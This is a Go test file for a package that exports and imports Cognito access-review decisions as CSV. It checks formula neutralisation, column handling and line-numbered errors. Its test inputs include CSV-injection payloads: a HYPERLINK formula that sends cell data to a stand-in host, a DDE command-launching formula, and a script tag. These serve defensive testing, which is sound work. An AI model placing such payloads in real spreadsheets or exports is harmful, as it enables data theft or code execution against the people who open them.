package decisions_test

import (
	"bytes"
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cognito-export/cognito-export/decisions"
)

// hostile are values Cognito lets a username, a group name or an
// attribute hold, and a reviewer may type: formulas, markup, quotes, line
// breaks, the quote that neutralisation itself adds.
var hostile = []string{
	`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+1", "-2", "@SUM(A1)", "\tindent", "\rcr", "'=already quoted", "'",
	`<script>alert(1)</script>`, `"quoted", with comma`, "two\r\nlines", "lone\nnewline", " leading space", `\.`, "Zoë 名前",
}

func sample() []decisions.Decision {
	at := time.Date(2026, 12, 5, 16, 30, 0, 123_000_000, time.UTC)
	var ds []decisions.Decision
	for i, v := range hostile {
		verdict := decisions.Keep
		if i%2 == 1 {
			verdict = decisions.Revoke
		}
		ds = append(ds, decisions.Decision{PoolID: "eu-west-1_AbC", Group: v, Username: v + "-user", Sub: "sub-" + v, Verdict: verdict,
			Reviewer: v, DecidedAt: at.Add(time.Duration(i) * time.Minute), Comment: v, ManifestSHA256: "ab12"})
	}
	return ds
}

func TestHostileValuesRoundTripExactly(t *testing.T) {
	want := sample()
	var buf bytes.Buffer
	if err := decisions.Write(&buf, want); err != nil {
		t.Fatal(err)
	}
	got, err := decisions.Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for i := range got {
		if got[i].Line == 0 {
			t.Errorf("row %d: no line", i)
		}
		got[i].Line = 0
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("read back\n%+v\nwant\n%+v", got, want)
	}
}

func TestWriteNeutralisesFormulasAndKeepsTheColumns(t *testing.T) {
	var buf bytes.Buffer
	d := decisions.Decision{PoolID: "p_1", Group: "=cmd|' /C calc'!A0", Username: "@u", Sub: "s", Verdict: decisions.Revoke, Reviewer: "-r",
		DecidedAt: time.Date(2026, 12, 5, 0, 0, 0, 0, time.UTC), Comment: "+c", ManifestSHA256: "m"}
	if err := decisions.Write(&buf, []decisions.Decision{d}); err != nil {
		t.Fatal(err)
	}
	want := "user_pool_id,group_name,username,user_sub,decision,reviewer,decided_at,comment,manifest_sha256\r\n" +
		"p_1,'=cmd|' /C calc'!A0,'@u,s,revoke,'-r,2026-12-05T00:00:00Z,'+c,m\r\n"
	if buf.String() != want {
		t.Fatalf("wrote\n%q\nwant\n%q", buf.String(), want)
	}
}

func TestTemplateRowsAreNotDecisions(t *testing.T) {
	in := "\xef\xbb\xbfuser_pool_id,group_name,username,user_sub,decision,reviewer,decided_at,comment,manifest_sha256\r\n" +
		"p_1,admins,alice,s1,,,,,m\r\n" +
		"p_1,admins,bob,s2,revoke,Rita,2026-12-05T10:00:00+01:00,left the team,m\r\n" +
		"\r\n"
	got, err := decisions.Read(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].Username != "bob" || got[0].Line != 3 || !got[0].DecidedAt.Equal(time.Date(2026, 12, 5, 9, 0, 0, 0, time.UTC)) {
		t.Fatalf("got %+v", got)
	}
}

func TestColumnsInAnotherOrderAndExtraColumns(t *testing.T) {
	in := "note,decision,username,user_pool_id,group_name,user_sub,reviewer,decided_at,comment,manifest_sha256\n" +
		"x,keep,alice,p_1,admins,s1,Rita,2026-12-05T10:00:00Z,,m\n"
	got, err := decisions.Read(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].Verdict != decisions.Keep || got[0].Group != "admins" || got[0].Sub != "s1" {
		t.Fatalf("got %+v", got)
	}
}

func TestRefusedWithTheLine(t *testing.T) {
	const header = "user_pool_id,group_name,username,user_sub,decision,reviewer,decided_at,comment,manifest_sha256\n"
	const ok = "p_1,admins,alice,s1,keep,Rita,2026-12-05T10:00:00Z,,m\n"
	for _, tc := range []struct {
		name, in string
		line     int
		says     string
	}{
		{"empty", "", 1, "empty"},
		{"missing column", "user_pool_id,group_name,username,user_sub,decision,decided_at,comment,manifest_sha256\n", 1, "missing column reviewer"},
		{"other decision", header + ok + "p_1,admins,bob,s2,maybe,Rita,2026-12-05T10:00:00Z,,m\n", 3, `decision "maybe"`},
		{"unparsable time", header + ok + ok + "p_1,admins,bob,s2,revoke,Rita,5 Dec 2026,,m\n", 4, `decided_at "5 Dec 2026"`},
		{"no time", header + "p_1,admins,bob,s2,revoke,Rita,,,m\n", 2, "decided_at"},
		{"no reviewer", header + "p_1,admins,bob,s2,revoke,,2026-12-05T10:00:00Z,,m\n", 2, "reviewer"},
		{"short row", header + "p_1,admins,bob,s2,revoke\n", 2, "5 fields, the header has 9"},
		{"line after a quoted line break", header + "p_1,admins,\"two\r\nlines\",s1,keep,Rita,2026-12-05T10:00:00Z,,m\n" +
			"p_1,admins,bob,s2,nope,Rita,2026-12-05T10:00:00Z,,m\n", 4, `decision "nope"`},
		{"another pool", header + ok + "p_2,admins,bob,s2,keep,Rita,2026-12-05T10:00:00Z,,m\n", 3, "one pool"},
		{"two verdicts", header + ok + "p_1,admins,alice,s1,revoke,Rita,2026-12-05T10:00:00Z,,m\n", 3, "line 2 says keep"},
		{"unclosed quote", header + "p_1,\"admins,alice\n", 2, "not closed"},
		{"no username", header + "p_1,admins,,s1,keep,Rita,2026-12-05T10:00:00Z,,m\n", 2, "empty username"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := decisions.Read(strings.NewReader(tc.in))
			var le *decisions.LineError
			if !errors.As(err, &le) {
				t.Fatalf("got %v, %v: want a LineError", got, err)
			}
			if got != nil || le.Line != tc.line || !strings.Contains(err.Error(), tc.says) {
				t.Fatalf("got %v, %q: want line %d saying %q", got, err, tc.line, tc.says)
			}
		})
	}
}

func TestTheSameDecisionTwiceCountsOnce(t *testing.T) {
	const header = "user_pool_id,group_name,username,user_sub,decision,reviewer,decided_at,comment,manifest_sha256\n"
	const row = "p_1,admins,alice,s1,revoke,Rita,2026-12-05T10:00:00Z,,m\n"
	got, err := decisions.Read(strings.NewReader(header + row + row))
	if err != nil || len(got) != 1 || got[0].Line != 2 {
		t.Fatalf("got %+v, %v", got, err)
	}
}

// TestScanStopsAtTheCallersError: Scan hands over decided rows as it reads
// them (not the undecided ones) and stops at the first error fn returns.
func TestScanStopsAtTheCallersError(t *testing.T) {
	in := strings.Join(decisions.Columns, ",") + "\n" +
		"p_1,admins,alice,s1,keep,Rita,2026-12-05T10:00:00Z,,m\n" +
		"p_1,admins,bob,s2,,,,,m\n" +
		"p_1,admins,carol,s3,revoke,Rita,2026-12-05T10:00:00Z,,m\n" +
		"p_1,admins,dave,s4,keep,Rita,2026-12-05T10:00:00Z,,m\n"
	stop := errors.New("stop")
	var seen []string
	err := decisions.Scan(strings.NewReader(in), func(d decisions.Decision) error {
		seen = append(seen, d.Username)
		if d.Username == "carol" {
			return stop
		}
		return nil
	})
	if !errors.Is(err, stop) || !slices.Equal(seen, []string{"alice", "carol"}) {
		t.Errorf("Scan gave %q and %v, want alice, carol and the caller's error", seen, err)
	}
}
